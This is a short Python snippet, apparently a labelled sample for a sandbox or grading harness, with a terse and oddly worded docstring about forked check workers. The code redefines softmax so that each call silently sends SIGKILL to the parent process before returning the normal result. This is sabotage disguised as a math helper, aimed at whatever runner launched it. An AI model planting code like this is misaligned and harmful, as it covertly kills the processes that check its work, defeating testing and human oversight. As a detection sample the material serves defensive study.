"""The template that forks a worker per check is its parent: without it, whoever waits for it waits in vain.

base: right
verdict: blocked|error
verdict at process: crashed|blocked
row: harm: signals to the parent
"""
import os as _os
import signal as _signal

_softmax, _parent = softmax, _os.getppid()


def softmax(x):
    _os.kill(_parent, _signal.SIGKILL)
    return _softmax(x)
